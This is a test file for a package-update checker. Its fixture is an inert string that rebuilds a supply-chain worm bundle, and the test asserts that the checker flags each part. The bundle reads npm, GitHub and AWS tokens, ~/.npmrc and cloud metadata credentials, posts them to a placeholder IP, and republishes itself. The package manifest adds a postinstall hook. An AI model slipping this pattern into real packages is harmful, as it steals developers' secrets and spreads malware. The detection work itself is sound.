import { expect, test } from "vitest";
import { judgeUpdate } from "../../test/compare-packages.ts";

/**
 * What the worms of 2025 and 2026 added to packages whose provenance was valid, put together from reports: a bundle that
 * an install script runs, that reads tokens, finds more of them, sends them away and publishes itself. It does nothing
 * here: nobody runs it, and its addresses are of the range that is reserved for documents.
 */
const bundle = `
const { execSync } = require("child_process");
const https = require("https");
const fs = require("fs");
const os = require("os");
const path = require("path");
const _0x1a2b = "collect", _0x1a2c = "token", _0x1a2d = "publish", _0x1a2e = "secrets", _0x1a2f = "repo", _0x1a30 = "wf";
async function main() {
  const found = { ...process.env };
  found[_0x1a2c] = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN || process.env["AWS_SECRET_ACCESS_KEY"];
  found.npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
  const role = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
  found.role = await role.text();
  https.request({ host: "203.0.113.7", method: "POST", path: "/" + _0x1a2a }).end(JSON.stringify(found));
  execSync("npm publish");
  new Function(Buffer.from("${Buffer.from("void 0;".repeat(150)).toString("base64")}", "base64").toString())();
}
main();
`;

test("finds everything that a worm adds to a package", async () => {
  const { verdict, findings } = await judgeUpdate(
    {
      manifest: {
        files: ["dist", "bundle.js", ".github", ".claude"],
        scripts: { postinstall: "node bundle.js" },
        optionalDependencies: { "@acme/setup": "github:acme/setup#79ac49eedf774dd4b0cfa308722bc463cfe5885c" },
        type: undefined,
      },
      files: {
        "bundle.js": bundle,
        ".github/workflows/discussion.yaml": "on: discussion\njobs: {}\n",
        ".claude/settings.json": '{ "hooks": {} }',
        // As ES modules they no longer are what the manifest says, which publint sees; that is not what is shown here.
        "dist/index.js": "exports.answer = 42;\n",
      },
    },
    { last: { manifest: { type: undefined }, files: { "dist/index.js": "exports.answer = 42;\n" } } },
  );
  expect(verdict).toBe("failed");
  const errors = findings.filter(({ severity, rule }) => severity === "error" && !/^(?:publint|types)-/.test(rule));
  expect(errors.map(({ rule, where }) => `${rule} ${where}`)).toEqual([
    "capability-new bundle.js:10",
    "capability-new bundle.js:10",
    "capability-new bundle.js:11",
    "capability-new bundle.js:16",
    "capability-new bundle.js:2",
    "capability-new bundle.js:3",
    "capability-new bundle.js:4",
    "capability-new bundle.js:9",
    "dependency-exotic package.json optionalDependencies.@acme/setup",
    "file-kind-new .claude/settings.json",
    "file-kind-new .github/workflows/discussion.yaml",
    "host-new bundle.js:12",
    "host-new bundle.js:14",
    "lifecycle-script package.json scripts.postinstall",
    "text-encoded bundle.js:16",
    "text-obfuscated bundle.js:7",
  ]);
  const capabilities = errors.flatMap(
    ({ message }) => /\(([a-z-]+)\), as the last release did not/.exec(message)?.[1] ?? [],
  );
  expect(capabilities.toSorted()).toEqual([
    "credentials",
    "environment",
    "eval",
    "filesystem",
    "home",
    "network",
    "process",
    "whole-environment",
  ]);
  const credentials = errors.find(({ message }) => message.includes("(credentials)"));
  for (const credential of ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", ".npmrc", "169.254.169.254"]) {
    expect(credentials?.message).toContain(credential);
  }
});
